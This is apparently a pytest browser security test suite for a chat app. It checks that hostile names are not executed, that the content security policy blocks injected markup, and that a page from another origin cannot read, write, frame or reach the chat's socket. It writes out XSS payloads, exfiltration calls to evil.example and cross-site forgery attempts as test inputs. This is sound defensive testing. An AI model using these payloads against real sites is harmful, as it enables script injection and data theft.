"""What would go wrong: a name that runs as a script, a page of another site that drives the chat it is open beside."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
import pytest_asyncio

from tests.browser.conftest import Visitor
from tests.browser.samples import HOSTILE

pytestmark = pytest.mark.asyncio(loop_scope="session")

WATCH = """
window.broken = [];
document.addEventListener('securitypolicyviolation', (e) => broken.push(`${e.violatedDirective} ${e.blockedURI}`));
"""
# Each way in which markup makes a browser run something; each would set a mark.
WAYS = (
    '<img src="data:," onerror="window.owned=1">',
    "<svg onload='window.owned=2'></svg>",
    '<iframe src="javascript:parent.owned=3"></iframe>',
    "<iframe srcdoc=\"<script>parent.owned=4</script>\"></iframe>",
    '<a id="trap" href="javascript:window.owned=5">x</a>',
    '<details open ontoggle="window.owned=6"></details>',
)  # fmt: skip


@pytest_asyncio.fixture(loop_scope="session")
async def watched(visitor: Visitor) -> Visitor:
    await visitor.page.add_init_script(WATCH)
    return visitor


async def owned(visitor: Visitor) -> object:
    return await visitor.page.evaluate("window.owned ?? (document.title === 'owned' ? 'title' : null)")


async def test_what_people_and_ads_are_called_is_never_run(watched):
    page = watched.page
    await watched.open()
    name = HOSTILE.replace('"', "'").replace("title=", "body.dataset.owned=")
    answers = page.locator("[data-step-type=assistant_message]")
    for said in (f"{HOSTILE} [a](javascript:window.owned=1) ![p](https://evil.example/p.png)", f'/brand "{name}"'):
        had = await answers.count()
        await watched.say(said)
        await answers.nth(had).wait_for(timeout=60_000)
        await watched.settled()
    await watched.say("/sample charts=yes")
    await page.wait_for_selector(".js-plotly-plot .main-svg", timeout=60_000)
    await watched.settled()
    await watched.thread_id()
    # The conversation is called after its first message: in the list, in the title, and after coming back.
    await page.reload()
    await page.wait_for_selector(".js-plotly-plot .main-svg", timeout=60_000)

    assert await owned(watched) is None
    assert await page.evaluate("document.body.dataset.owned ?? null") is None
    assert await page.evaluate("document.querySelectorAll('[onerror], [onload], a[href^=javascript]').length") == 0
    assert await page.evaluate("window.broken") == []


async def test_markup_that_slipped_through_would_not_run_either(watched):
    page = watched.page
    await watched.open()
    await page.evaluate("(ways) => document.body.insertAdjacentHTML('beforeend', ways.join(''))", list(WAYS))
    await page.evaluate(
        """() => {
            const inline = document.createElement('script');
            inline.textContent = 'window.owned = 7';
            const other = document.createElement('script');
            other.src = 'https://evil.example/x.js';
            document.body.append(inline, other);
            document.getElementById('trap').click();
            fetch('https://evil.example/?stolen').catch(() => {});
            new Image().src = 'https://evil.example/stolen.png';
        }"""
    )
    await page.wait_for_function("window.broken.length >= 8", timeout=30_000)

    assert await owned(watched) is None
    stopped = {broken.split()[0] for broken in await page.evaluate("window.broken")}
    assert stopped >= {"script-src-elem", "script-src-attr", "connect-src", "img-src"}
    watched.outside.clear()  # Chromium tells of a request before the policy stops it.


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[str]:
    """A page on another port of this machine: of another origin, and of the same site."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(b"<title>elsewhere</title><body></body>")

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


async def test_a_page_elsewhere_in_the_same_browser_neither_reads_nor_writes(visitor, elsewhere):
    page = visitor.page
    await visitor.open()
    await page.goto(elsewhere)
    tried = await page.evaluate(
        """async (chat) => {
            const told = {};
            const ask = (name, path, options) => fetch(chat + path, { credentials: 'include', ...options })
                .then((r) => (told[name] = r.type === 'opaque' ? 'sent' : r.status), () => (told[name] = 'refused'));
            await ask('read', '/user', {});
            await ask('write', '/logout', { method: 'POST' });
            await ask('preflight', '/project/thread', { method: 'DELETE', headers: { 'x-any': 'thing' } });
            const picture = new Image();
            told.picture = await new Promise((done) => {
                picture.onload = () => done('shown');
                picture.onerror = () => done('refused');
                picture.src = chat + '/logo?theme=light';
            });
            const socket = new WebSocket(chat.replace('http', 'ws') + '/ws/socket.io/?EIO=4&transport=websocket');
            told.socket = await new Promise((done) => {
                socket.onmessage = () => done('heard');
                socket.onclose = () => done('refused');
            });
            return told;
        }""",
        visitor.url,
    )
    assert set(tried.values()) == {"refused"}, tried

    answers = []
    page.on("response", lambda response: answers.append((response.request.method, response.status)))
    await page.evaluate(
        """(chat) => {
            const form = document.createElement('form');
            form.method = 'post';
            form.action = chat + '/logout';
            document.body.append(form);
            form.submit();
        }""",
        visitor.url,
    )
    await page.wait_for_url(f"{visitor.url}/logout")
    assert ("POST", 421) in answers
    await page.goto(elsewhere)
    async with page.expect_response(f"{visitor.url}/") as framed:
        await page.evaluate(
            "(chat) => { const f = document.createElement('iframe'); f.src = chat; document.body.append(f) }",
            visitor.url,
        )
    assert (await framed.value).status == 421

    # A link leads in, and the person is still signed in.
    await page.evaluate("(chat) => { location.href = chat }", visitor.url)
    await page.wait_for_selector("#chat-input", timeout=60_000)
